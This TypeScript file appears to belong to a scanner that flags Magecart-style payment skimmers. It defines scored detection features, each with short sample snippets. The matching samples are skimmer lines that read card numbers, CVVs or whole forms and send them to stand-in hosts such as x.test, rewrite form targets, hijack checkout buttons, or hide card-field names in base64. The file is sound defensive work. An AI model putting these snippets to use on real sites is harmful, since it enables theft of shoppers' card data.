import type { AnyNode } from 'acorn';
import type { Facts } from '../facts/facts.ts';
import { isCardName, isPaymentName, mentionsCardField } from '../flow/field-words.ts';
import { anyField, taint } from '../flow/taint.ts';
import { propertyName } from '../tree/known-calls.ts';
import { elementFinders } from '../values/paths.ts';
import { cardMessages } from './card-frames.ts';
import type { Feature, Finder } from './feature.ts';
import {
  allOf,
  anyOf,
  calls,
  flow,
  near,
  onlyPasswordsMasked,
  otherHosts,
  paths,
  properties,
  sends,
  sendsIgnoringResponse,
  sendsTo,
  sendsToIgnoringResponse,
  text,
  unmasked,
} from './finders.ts';
import { allForms, formTargets } from './form-targets.ts';
import { redirectsElsewhere } from './redirects.ts';
import { imitatesService, isService } from './services.ts';

const checkoutWords = [
  'checkout',
  'onepage',
  'onestep',
  'payment',
  'billing',
  'basket',
  'firecheckout',
];
const matchers: ReadonlySet<string> = new Set([
  ...['indexOf', 'includes', 'match', 'test', 'search', 'startsWith', 'endsWith', 'exec'],
]);
const addressPath = /^(?:document\.)?(?:location(?:\.(?:href|pathname|hash|search))?|URL)$/;
/** Nodes of a comparison of the URL. */
const MAX_NODES = 40;

/** Comparisons of the URL with words for a checkout: `location.href.indexOf('checkout')`. */
function checkoutChecks({ reading, methods }: Facts): number[] {
  const { tree, values } = reading;
  const wordsOf = (node: AnyNode): string =>
    (node.type === 'Literal' && node.regex
      ? node.regex.pattern
      : (values.text(node) ?? '')
    ).toLowerCase();
  const isCheck = (number: number): boolean => {
    const last = tree.lasts[number] ?? number;
    if (last - number > MAX_NODES) return false;
    const nodes = tree.nodes.slice(number, last + 1);
    return (
      nodes.some((node) => isName(node) && addressPath.test(withoutMethods(values.path(node)))) &&
      nodes.some((node) => checkoutWords.some((word) => wordsOf(node).includes(word)))
    );
  };
  return [...matchers].flatMap((method) => methods.get(method) ?? []).filter(isCheck);
}

const isName = (node: AnyNode): boolean =>
  node.type === 'MemberExpression' || node.type === 'Identifier';
const withoutMethods = (path: string): string =>
  path.replace(/\.(?:toString|toLowerCase|indexOf|includes|match|search)$/, '');

/** The URL of a script, or a tag that loads one, of another host that is not a well-known service. */
const scriptAddress = /(?:^|<script\b[^>]*\ssrc\s*=\s*["']?)((?:https?:)?\/\/[^"'\s>]+\.js\b)/i;
const foreignScripts: Finder = text(({ text: it }) => {
  const [, address] = scriptAddress.exec(it) ?? [];
  return address !== undefined && !isService(address);
});
/** Nodes between the check of the page and the URL. */
const NEAR_CHECK = 80;

const cardNumberPatterns = [
  '4[0-9]{12}',
  '4\\d{12}',
  '5[1-5][0-9]{14}',
  '5[1-5]\\d{14}',
  '3[47][0-9]{13}',
];

/** Searches for elements by a name that indicates payment. */
const paymentSelectors: Finder = ({ methods, reading: { tree, values } }) =>
  [...elementFinders].flatMap((name) =>
    (methods.get(name) ?? []).filter((number) => {
      const call = tree.node(number);
      return call?.type === 'CallExpression' && isPaymentName(values.text(call.arguments[0]) ?? '');
    }),
  );

/** Handlers of buttons with a name that indicates payment that the script replaces, given as attributes. */
const paymentButtons: Finder = (facts) => {
  const { methods: called, reading } = facts;
  const { tree, values } = reading;
  const isReplaced = (call: AnyNode | undefined): boolean => {
    if (call?.type !== 'CallExpression' || values.text(call.arguments[0]) !== 'onclick')
      return false;
    const first = tree.numberOf(call);
    // The selector is in the same chain, or the script searches for such elements elsewhere.
    const inside = tree.nodes.slice(first, (tree.lasts[first] ?? first) + 1);
    return inside.some((it) => it.type === 'Literal' && isPaymentName(values.text(it) ?? ''));
  };
  const attributes = ['attr', 'setAttribute'].flatMap((name) => called.get(name) ?? []);
  const removed = ['removeAttribute', 'removeAttr'].flatMap((name) => called.get(name) ?? []);
  const taken = removed.filter((number) => {
    const call = tree.node(number);
    return call?.type === 'CallExpression' && values.text(call.arguments[0]) === 'onclick';
  });
  return [
    ...attributes.filter((number) => isReplaced(tree.node(number))),
    ...(paymentSelectors(facts).length > 0 ? taken : []),
  ];
};

/** Nodes between the target of a form and what the form contains. */
const NEAR_CARD = 1500;
const NEAR_FORMS = 300;
const secretForm = /card|cvv|cvc|payment|checkout|passw|log-?in|sign-?in/i;

/** `submit` as the name of an event, not as the type of a button. */
const submitNames: Finder = ({ texts, reading: { tree } }) =>
  texts.flatMap(({ text: it, node }) => {
    if (it !== 'submit' && it !== 'onsubmit') return [];
    const user = tree.parent(node);
    const isCompared = user?.type === 'BinaryExpression' || user?.type === 'SwitchCase';
    const isType = user?.type === 'Property' && propertyName(user.key) === 'type';
    return isCompared || isType ? [] : [node];
  });

/** Listeners for the submission of forms. */
const submitListeners: Finder = anyOf(
  submitNames,
  properties('onsubmit'),
  calls('$.submit', 'jQuery.submit', '<node>.submit'),
);

const listedReaders = ['querySelector', 'querySelectorAll', 'getElementById', 'getElementsByName'];
const listedSenders = ['sendBeacon', 'fetch', 'XMLHttpRequest', 'WebSocket', 'Image', 'src'];

function listedSkimmer({ texts }: Facts): number[] {
  const listed = texts.filter(({ isListed }) => isListed);
  const all = new Set(listed.map(({ text: it }) => it));
  const card = listed.filter(({ text: it }) => it.length > 2 && isCardName(it));
  const has = (names: readonly string[]): boolean => names.some((name) => all.has(name));
  if (new Set(card.map(({ text: it }) => it)).size < 2 || !all.has('value')) return [];
  return has(listedReaders) && has(listedSenders) ? card.map(({ node }) => node) : [];
}

/** Markup with card fields. */
const madeCardForm: Finder = text(
  ({ text: it }) => /<(?:input|form|iframe)/i.test(it) && mentionsCardField(it),
);

/** A sample, of which others leave a part out. */
const cardFrame = `f.srcdoc = '<input name="cardnumber"><input name="cvc"><script>oninput = (e) => parent.postMessage(e.target.value, "*")<\\/script>'; window.addEventListener('message', (m) => { new Image().src = 'https://x.test/?' + m.data; });`;

export const magecartFeatures: readonly Feature[] = [
  {
    id: 'card-data-sent',
    what: 'Sends card data',
    points: 40,
    shows: ['taken'],
    find: sends(taint.cardName, anyField),
    samples: {
      matching: [`fetch('/pay', { body: document.querySelector('[name=cardnumber]').value });`],
      other: [`fetch('/pay', { body: document.querySelector('[name=quantity]').value });`],
    },
  },
  {
    id: 'card-data-sent-elsewhere',
    what: 'Sends card data to another host or an unknown one',
    points: 25,
    shows: [],
    find: sendsTo(otherHosts, taint.cardName, anyField),
    samples: {
      matching: [
        `fetch('//c.test/pay', { body: document.querySelector('#cvv').value }).then(done);`,
      ],
      other: [`fetch('/pay', { body: document.querySelector('#cvv').value }).then(done);`],
    },
  },
  {
    id: 'card-data-sent-unanswered',
    what: 'Sends card data and ignores the response, unlike a payment',
    points: 50,
    shows: ['taken'],
    find: sendsIgnoringResponse(taint.cardName, anyField),
    samples: {
      matching: [
        `navigator.sendBeacon('https://c.test/', document.getElementById('cvv').value);`,
        `fetch('https://c.test/', { mode: 'no-cors', body: document.getElementById('cvv').value });`,
        `document.addEventListener('input', (e) => { if (/card|cvv/.test(e.target.name)) new Image().src = '//c.test/' + e.target.value; });`,
      ],
      other: [
        `fetch('/token', { body: document.getElementById('cvv').value }).then((r) => r.json()).then(pay);`,
        `document.addEventListener('input', (e) => { if (/card|cvv/.test(e.target.name)) return; new Image().src = '//c.test/' + e.target.value; });`,
      ],
    },
  },
  {
    id: 'card-data-encoded',
    what: 'Encodes data of fields as base64 before it sends them',
    points: 25,
    shows: [],
    find: sends(taint.encoded, anyField),
    samples: {
      matching: [`new Image().src = '//c.test/?' + btoa(document.getElementById('a').value);`],
      other: [`fetch('/x', { headers: { authorization: 'Basic ' + btoa('a:b') } });`],
    },
  },
  {
    id: 'all-fields-sent-unanswered',
    what: 'Sends all fields of the page or a form and ignores the response',
    points: 40,
    shows: ['taken'],
    find: sendsIgnoringResponse(taint.allFields, taint.field),
    samples: {
      matching: [
        `const d = {}; document.querySelectorAll('input,select').forEach((i) => { d[i.name] = i.value; }); navigator.sendBeacon('//c.test', JSON.stringify(d));`,
      ],
      other: [
        `fetch('/save', { method: 'POST', body: new FormData(document.querySelector('form')) }).then(done);`,
      ],
    },
  },
  {
    id: 'all-fields-sent-elsewhere',
    what: 'Sends all fields to another host, ignores the response and skips no field',
    points: 65,
    shows: ['destination'],
    find: unmasked(
      'any',
      sendsToIgnoringResponse(['foreign', 'hidden'], taint.allFields, taint.field),
    ),
    samples: {
      matching: [
        `f.onsubmit = function () { navigator.sendBeacon('https://x.test/c', new FormData(document.forms[0])); };`,
        `document.addEventListener('change', ({ target: { value } }) => { new Image().src = 'https://x.test/' + value; });`,
        `var u = decode(atob(code)); document.onsubmit = (e) => { fetch(atob(u), { body: new FormData(e.target) }); };`,
        `class A { #v = {}; constructor() { document.addEventListener('change', (e) => this.#take(e)); } #take(e) { this.#v[e.target.name] = e.target.value; navigator.sendBeacon('//x.test', JSON.stringify(this.#v)); } }`,
        `var u = ['https:', '', 'x.test', id].join('/'); document.onsubmit = (e) => { fetch(u, { body: new FormData(e.target) }); };`,
      ],
      other: [
        `f.onsubmit = function () { navigator.sendBeacon('/own', new FormData(document.forms[0])); };`,
        `document.addEventListener('change', ({ target: t }) => { if (t.type !== 'password') new Image().src = 'https://x.test/' + t.value; });`,
      ],
    },
  },
  {
    id: 'all-fields-sent-somewhere',
    what: 'Sends all fields to an unknown host and ignores the response',
    points: 25,
    shows: [],
    find: unmasked('any', sendsToIgnoringResponse(['unknown'], taint.allFields, taint.field)),
    samples: {
      matching: [`document.onchange = (e) => navigator.sendBeacon(u, e.target.value);`],
      other: [`document.onchange = (e) => navigator.sendBeacon('/own', e.target.value);`],
    },
  },
  {
    id: 'payment-fields-sent-elsewhere',
    what: 'Sends all fields of payment pages to another host and skips only passwords',
    points: 40,
    shows: ['destination'],
    find: allOf(
      onlyPasswordsMasked(
        sendsToIgnoringResponse(['foreign', 'hidden'], taint.allFields, taint.field),
      ),
      anyOf(checkoutChecks, paymentSelectors),
    ),
    samples: {
      matching: [
        `if (/checkout/.test(location.href)) document.addEventListener('change', ({ target: t }) => { if (t.type !== 'password') new Image().src = 'https://x.test/' + t.value; });`,
      ],
      other: [
        `document.addEventListener('change', ({ target: t }) => { if (t.type !== 'password') new Image().src = 'https://x.test/' + t.value; });`,
        `if (/checkout/.test(location.href)) document.addEventListener('change', ({ target: t }) => { if (t.type !== 'password' && !/card|cvv/.test(t.name)) new Image().src = 'https://x.test/' + t.value; });`,
      ],
    },
  },
  {
    id: 'submission-copied',
    what: 'Sends all fields to another host while the form submits normally',
    points: 92,
    shows: ['destination'],
    find: unmasked('any', (facts) =>
      facts.methods.has('preventDefault') || facts.properties.has('preventDefault')
        ? []
        : allOf(
            sendsTo(['foreign', 'hidden'], taint.allFields, taint.field),
            submitListeners,
          )(facts),
    ),
    samples: {
      matching: [
        `document.addEventListener('submit', (e) => { fetch('https://x.test', { body: new FormData(e.target) }).then((r) => r.text()).then(log); });`,
      ],
      other: [
        `document.addEventListener('submit', (e) => { e.preventDefault(); fetch('https://x.test', { body: new FormData(e.target) }).then((r) => r.text()).then(log); });`,
        `document.addEventListener('submit', (e) => { fetch('/own', { body: new FormData(e.target) }).then((r) => r.text()).then(log); });`,
      ],
    },
  },
  {
    id: 'form-target-changed',
    what: 'Changes the target of forms of the page to another host',
    points: 60,
    shows: ['destination'],
    find: formTargets,
    samples: {
      matching: [
        `document.querySelector('form').action = 'https://x.test/p';`,
        `$('#pay').attr('action', settings.target); var settings = { target: 'https://x.test/p' };`,
        `document.querySelectorAll('form').forEach(lead); function lead(f) { f.setAttribute('action', 'https://' + 'x.test' + '/p'); }`,
        `document.querySelector('button').formAction = 'https://x.test/p';`,
        `Object.assign(document.forms[0], { action: 'https://x.test/p' });`,
        `document.onclick = (e) => { const b = e.target.closest && e.target.closest('[type=submit]'); if (b) b.form.setAttribute('action', 'https://x.test/p'); };`,
        `const f = document.querySelector('form').cloneNode(true); f.action = 'https://x.test/p';`,
        `const b = document.createElement('base'); b.href = 'https://x.test/'; document.head.prepend(b);`,
      ],
      other: [
        `document.querySelector('form').action = '/p';`,
        `var f = document.createElement('form'); f.action = 'https://x.test/p';`,
        `settings.action = 'https://x.test/p';`,
        `settings.form.action = 'https://x.test/p';`,
        `const b = document.createElement('base'); b.href = '/app/'; document.head.prepend(b);`,
      ],
    },
  },
  {
    id: 'all-forms-led-elsewhere',
    what: 'Changes the target of all forms of the page, whatever is typed into them',
    points: 45,
    shows: ['taken'],
    find: near(NEAR_FORMS, formTargets, allForms),
    samples: {
      matching: [
        `for (const form of document.forms) form.action = 'https://x.test/p';`,
        `document.addEventListener('submit', (e) => { e.target.action = 'https://x.test/p'; });`,
      ],
      other: [
        `document.querySelector('form.search').action = 'https://x.test/p';`,
        `const f = document.querySelector('#news'); f.action = 'https://x.test/p'; f.addEventListener('submit', count);`,
        `function make() { const form = document.createElement('form'); form.method = 'post'; return form; } const form = make(); form.action = 'https://x.test/p'; form.submit();`,
      ],
    },
  },
  {
    id: 'payment-target-changed',
    what: 'Changes the target of forms with card fields or passwords to another host',
    points: 45,
    shows: ['taken'],
    find: near(
      NEAR_CARD,
      formTargets,
      anyOf(
        paymentSelectors,
        text(({ text: it }) => it.length < 100 && secretForm.test(it)),
      ),
    ),
    samples: {
      matching: [
        `document.querySelectorAll('form').forEach((f) => { if (f.querySelector('[name=cvv]')) f.action = '//x.test/p'; });`,
      ],
      other: [`document.querySelector('form.search').action = 'https://x.test/p';`],
    },
  },
  {
    id: 'payment-led-elsewhere',
    what: 'Takes over the buttons of the payment and leads the visitor to another host',
    points: 100,
    shows: ['taken', 'destination', 'decisive'],
    find: allOf(paymentButtons, redirectsElsewhere),
    samples: {
      matching: [
        `jQuery('#checkout-place-order').attr('onclick', 'go();'); function go() { location.href = 'https://x.test/pay?' + btoa(location.host); }`,
        `var b = document.querySelector('#payment-buttons button'); b.removeAttribute('onclick'); b.onclick = function () { location.replace('//x.test/pay'); };`,
      ],
      other: [
        `jQuery('#checkout-place-order').attr('onclick', 'go();'); function go() { location.href = '/pay'; }`,
        `jQuery('#menu').attr('onclick', 'go();'); function go() { location.href = 'https://x.test/help'; }`,
      ],
    },
  },
  {
    id: 'payment-form-copied',
    what: 'Selects the payment form of a page, sends its fields and ignores the response',
    points: 30,
    shows: ['taken'],
    find: allOf(sendsIgnoringResponse(taint.allFields, taint.field), paymentSelectors),
    samples: {
      matching: [
        `$('#co-payment-form').on('submit', function () { $('<img>').attr('src', '//x.test/?' + $(this).serialize()); });`,
      ],
      other: [
        `$('#co-payment-form').on('submit', function () { validate($(this).serialize()); });`,
      ],
    },
  },
  {
    id: 'hidden-card-names',
    what: 'Hides the names of card fields in encoded strings',
    points: 60,
    shows: ['taken', 'hidden'],
    find: text(
      ({ isDecoded, isListed, text: it }) =>
        isDecoded && !isListed && it.length > 2 && isCardName(it),
    ),
    samples: {
      matching: [`document.querySelector(atob('I2NhcmRudW1iZXI='));`],
      other: [`document.querySelector('#cardnumber');`],
    },
  },
  {
    id: 'listed-skimmer',
    what: 'Hides names of card fields, of functions that read them and of functions that send them in an encoded array',
    points: 75,
    shows: ['decisive'],
    find: listedSkimmer,
    samples: {
      matching: [
        `var _0x1 = [${['cardnumber', 'card-cvv', 'value', 'querySelector', 'sendBeacon', 'stringify'].map((it) => `'${btoa(it)}'`).join()}];`,
      ],
      other: [
        `var _0x1 = [${['cardnumber', 'card-cvv', 'value', 'querySelector', 'toggleClass', 'stringify'].map((it) => `'${btoa(it)}'`).join()}];`,
        `var _0x1 = ['cardnumber', 'card-cvv', 'value', 'querySelector', 'sendBeacon'];`,
      ],
    },
  },
  {
    id: 'checkout-only',
    what: 'Acts on checkout pages only',
    points: 25,
    shows: [],
    find: checkoutChecks,
    samples: {
      matching: [
        `if (location.href.indexOf('checkout') > -1) go();`,
        `if (/onepage|checkout/.test(window.location.pathname)) go();`,
      ],
      other: [`if (location.href.indexOf('#top') > -1) go(); show('checkout');`],
    },
  },
  {
    id: 'checkout-script-loaded',
    what: 'Loads a script from another host on checkout pages only',
    points: 60,
    shows: ['run'],
    find: near(NEAR_CHECK, checkoutChecks, foreignScripts),
    samples: {
      matching: [
        `if (/onepage|checkout/.test(location.href)) document.write('<script src="https://x.test/a.js"></script>');`,
        `var n = ['\\x63heckout', '//x.test/a.js']; if (new RegExp(n[0]).test(window.location)) { var s = document.createElement('script'); s.src = n[1]; document.head.append(s); }`,
      ],
      other: [
        `if (/checkout/.test(location.href)) document.write('<script src="/pay.js"></script>');`,
        `document.write('<script src="https://x.test/a.js"></script>');`,
      ],
    },
  },
  {
    id: 'card-form-made',
    what: 'Inserts a form with card fields into the page',
    points: 35,
    shows: ['taken'],
    find: madeCardForm,
    samples: {
      matching: [`el.innerHTML = '<form><input name="cc-number"><input name="cvv"></form>';`],
      other: [`el.innerHTML = '<form><input name="street"></form>';`],
    },
  },
  {
    id: 'card-frame-made',
    what: 'Makes a frame with card fields and passes on what it hands to the page',
    points: 50,
    shows: ['taken'],
    find: cardMessages,
    samples: {
      matching: [cardFrame],
      other: [
        cardFrame.replace('postMessage', 'show'),
        cardFrame.replace('https://x.test/', 'https://x.test/logo.png?').replace('m.data', 'n'),
      ],
    },
  },
  {
    id: 'card-frame-sent-elsewhere',
    what: 'Sends what a frame with card fields hands to the page to another host',
    points: 50,
    shows: ['destination'],
    find: cardMessages,
    samples: {
      matching: [cardFrame],
      other: [
        cardFrame
          .replace('https://x.test/?', '/log?')
          .replace('cvc', 'city')
          .replace('cardnumber', 'street'),
      ],
    },
  },
  {
    id: 'made-form-sent',
    what: 'Inserts a form with card fields into the page, sends fields to another host and ignores the response',
    points: 65,
    shows: ['destination'],
    find: allOf(madeCardForm, sendsToIgnoringResponse(otherHosts, taint.field)),
    samples: {
      matching: [
        `el.innerHTML = '<input id="a" autocomplete="cc-number">'; go.onclick = () => { navigator.sendBeacon('//x.test', document.querySelector('#a').value); };`,
      ],
      other: [
        `el.innerHTML = '<input id="a" autocomplete="cc-number">'; go.onclick = () => { fetch('//x.test', { body: document.querySelector('#a').value }).then((r) => r.json()).then(pay); };`,
      ],
    },
  },
  {
    id: 'card-numbers-recognised',
    what: 'Recognises card numbers in the data that it sends',
    points: 20,
    shows: ['taken'],
    find: allOf(
      text(({ text: it }) => cardNumberPatterns.some((pattern) => it.includes(pattern))),
      sends(anyField),
    ),
    samples: {
      matching: [
        `const v = document.getElementById('a').value; if (/^4[0-9]{12}/.test(v)) fetch('//c.test/' + v);`,
      ],
      other: [`const isVisa = (v) => /^4[0-9]{12}/.test(v);`],
    },
  },
  {
    id: 'imitated-service',
    what: 'Uses a host that imitates the name of a well-known service',
    points: 30,
    shows: ['destination', 'hidden'],
    find: text(({ text: it }) => imitatesService(it)),
    samples: {
      matching: [`load('https://google-analytics.stat.test/ga.js');`],
      other: [`load('https://www.google-analytics.com/ga.js');`],
    },
  },
  {
    id: 'payment-form-replaced',
    what: 'Hides the payment form of the page and replaces it by its own',
    points: 40,
    shows: ['taken'],
    find: allOf(
      madeCardForm,
      text(({ text: it }) => it === 'none' || /display:\s*none/.test(it)),
      anyOf(
        paths('?.style.display', '<node>.style.display'),
        flow(({ sink }) => sink === 'markup'),
      ),
      sends(anyField),
    ),
    samples: {
      matching: [
        `document.querySelector('#pay').style.display = 'none'; box.innerHTML = '<form><input name="cvv"></form>'; fetch('/x', { body: document.querySelector('[name=cvv]').value });`,
      ],
      other: [`box.innerHTML = '<form><input name="cvv"></form>'; menu.style.display = 'none';`],
    },
  },
];
